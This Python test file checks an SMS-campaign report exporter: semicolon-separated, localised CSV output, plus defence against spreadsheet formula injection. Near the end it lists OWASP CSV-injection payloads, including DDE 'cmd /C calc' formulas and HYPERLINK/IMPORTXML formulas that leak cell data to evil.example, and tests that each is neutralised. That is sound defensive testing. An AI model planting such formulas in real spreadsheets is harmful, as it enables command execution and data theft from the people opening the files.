"""The report file a team opens in Excel: `;`-separated UTF-8 with a BOM, their language, every
uploaded column, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

from zoneinfo import ZoneInfo

import pytest

from bot.i18n import make_i18n
from bot.statuses.report_file import ReportWords, report_csv, report_filename, safe_cell
from storage.campaigns import Campaign, CampaignState
from storage.messages import MessageRow, SubmitState
from tests.report_reader import read_report

MOSCOW = ZoneInfo("Europe/Moscow")
CAMPAIGN = Campaign(
    type="sms",
    sender="Shop",
    text="Здравствуйте, {Имя}! Скидка 10%",
    columns=["Имя", "Город"],
    id=12,
    state=CampaignState.FINISHED,
    created_at="2026-11-30T06:00:00+00:00",
    submitted_at="2026-11-30T06:00:05+00:00",
)


def row(
    seq: int,
    address: str,
    state: SubmitState,
    *,
    fields: dict[str, str] | None = None,
    raw: str | None = None,
    status_class: str | None = None,
    error: str | None = None,
) -> MessageRow:
    return MessageRow(
        id=seq,
        campaign_id=12,
        seq=seq,
        sent_to=address,
        fields=fields or {},
        state=state,
        platform_id=f"p{seq}" if state is SubmitState.ACCEPTED else None,
        error=error,
        submitted_at=None if state is SubmitState.CANCELLED else "2026-11-30T06:00:06+00:00",
        status_raw=raw,
        status_class=status_class,
        status_at="2026-11-30T06:10:00+00:00" if raw else None,
    )


ROWS = [
    row(
        1,
        "79001234567",
        SubmitState.ACCEPTED,
        fields={"Имя": "Анна", "Город": "Тула"},
        raw="1",
        status_class="delivered",
    ),
    row(
        2,
        "79001234568",
        SubmitState.ACCEPTED,
        fields={"Имя": "Борис"},
        raw="2",
        status_class="failed",
    ),
    row(
        3,
        "79001234569",
        SubmitState.REJECTED,
        fields={"Город": "Омск"},
        error='=HYPERLINK("http://x")',
    ),
    row(4, "79001234570", SubmitState.UNKNOWN, error="interrupted"),
    row(5, "79001234571", SubmitState.ACCEPTED, raw="8", status_class="pending"),
    row(6, "79001234572", SubmitState.CANCELLED),
]


def words_in(language: str, tmp_path) -> ReportWords:
    i18n = make_i18n("en", tmp_path / "locales")
    with i18n.context(), i18n.use_locale(language):
        return ReportWords.current()


def test_russian_excel_sees_columns_the_campaign_and_every_recipient(tmp_path):
    report = read_report(report_csv(CAMPAIGN, ROWS, words_in("ru", tmp_path), MOSCOW, full=True))

    assert report.head == {
        "Рассылка": "№12",
        "Текст": "Здравствуйте, {Имя}! Скидка 10%",
        "Отправлена": "30.11.2026 09:00",
        "Получатели в файле": "все получатели",
    }
    assert report.header == [
        "Адрес",
        "Имя",
        "Город",
        "Статус",
        "Статус платформы",
        "Причина",
        "Время последнего статуса",
    ]
    assert report.rows[0] == {
        "Адрес": "79001234567",
        "Имя": "Анна",
        "Город": "Тула",
        "Статус": "доставлено",
        "Статус платформы": "1",
        "Причина": "",
        "Время последнего статуса": "30.11.2026 09:10",
    }
    assert [r["Статус"] for r in report.rows] == [
        "доставлено",
        "не доставлено",
        "отклонено платформой",
        "неизвестно",
        "в пути",
        "отменено, не отправлено",
    ]
    assert report.rows[1]["Город"] == ""  # empty cells stay empty
    assert report.rows[3]["Причина"] == "прервано остановкой бота"
    assert report.rows[2]["Время последнего статуса"] == "30.11.2026 09:00"  # when it was refused
    assert report.rows[5]["Время последнего статуса"] == ""


def test_every_line_splits_into_cells_at_semicolons_only(tmp_path):
    content = report_csv(CAMPAIGN, ROWS, words_in("ru", tmp_path), MOSCOW, full=True)

    lines = content.decode("utf-8-sig").split("\r\n")
    assert lines[5] == "Адрес;Имя;Город;Статус;Статус платформы;Причина;Время последнего статуса"
    assert lines[6] == "79001234567;Анна;Тула;доставлено;1;;30.11.2026 09:10"


def test_the_english_report_for_english_readers(tmp_path):
    report = read_report(report_csv(CAMPAIGN, ROWS, words_in("en", tmp_path), MOSCOW, full=False))

    assert report.head["Recipients in this file"] == "those who did not get the message"
    assert report.header[0] == "Address"
    assert report.header[-4:] == ["Status", "Platform status", "Reason", "Time of the last status"]
    assert report.rows[3]["Reason"] == "interrupted by a stop of the bot"


def test_no_cell_is_empty_but_marked(tmp_path):
    report = read_report(report_csv(CAMPAIGN, ROWS, words_in("en", tmp_path), MOSCOW, full=True))

    assert not [
        cell
        for line in report.cells
        for cell in line
        if cell.startswith("'") and cell != '\'=HYPERLINK("http://x")'
    ]


def test_the_file_name_is_in_the_readers_language(tmp_path):
    i18n = make_i18n("en", tmp_path / "locales")
    with i18n.context():
        with i18n.use_locale("ru"):
            assert report_filename(12, full=False) == "рассылка-12-не-получили.csv"
            assert report_filename(12, full=True) == "рассылка-12-полный-отчёт.csv"
        with i18n.use_locale("en"):
            assert report_filename(12, full=False) == "campaign-12-undelivered.csv"


# The OWASP "CSV Injection" payloads, and the starts it lists: = + - @ tab and carriage return.
OWASP_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click here")',
    '+1+HYPERLINK("http://evil.example","x")',
    "-2+3+cmd|' /C calc'!A0",
    '@HYPERLINK("http://evil.example")',
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "+79001234567",
    "-5",
    "=",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_cell_that_could_run_as_a_formula_is_text(payload, tmp_path):
    assert safe_cell(payload) == "'" + payload
    hostile = [
        row(
            1,
            "79001234567",
            SubmitState.ACCEPTED,
            fields={"Имя": payload, "Город": "x"},
            raw=payload,
            status_class="failed",
        ),
        row(2, "79001234568", SubmitState.REJECTED, error=payload),
    ]
    campaign = Campaign(type="sms", sender="Shop", text=payload, columns=["Имя", "Город"], id=1)

    report = read_report(report_csv(campaign, hostile, words_in("en", tmp_path), MOSCOW, full=True))

    assert report.head["Text"] == "'" + payload
    assert report.rows[0]["Имя"] == "'" + payload
    assert report.rows[0]["Platform status"] == "'" + payload
    assert report.rows[1]["Reason"] == "'" + payload
    for line in report.cells:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", ["", "79001234567", "Анна", "10%", "a=b", "user@example.com"])
def test_ordinary_cells_are_kept_as_they_are(value):
    assert safe_cell(value) == value
